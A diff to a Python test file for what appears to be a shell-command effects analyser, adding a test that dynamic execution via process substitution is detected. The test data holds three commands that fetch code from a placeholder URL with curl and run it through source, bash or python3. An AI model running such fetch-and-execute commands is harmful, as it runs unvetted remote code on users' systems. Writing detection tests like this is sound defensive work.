@@ -271,3 +271,8 @@ def test_prefix_assignment_reaches_child_shell(effects: Effects) -> None:
 )
 def test_interpreter_chdir_unanchors_paths(command: str, effects: Effects) -> None:
     assert ("delete", "", False) in effects(command)
+
+
+@pytest.mark.parametrize("command", ["source <(curl -s https://example.com/x)", "bash <(curl -s https://example.com/x)", "python3 <(curl -s https://example.com/x)"])
+def test_code_from_process_substitution_unresolved(command: str, effects: Effects) -> None:
+    assert ("exec_dynamic", "", False) in {(kind, "" if kind == "exec_dynamic" else path, resolved) for kind, path, resolved in effects(command)}
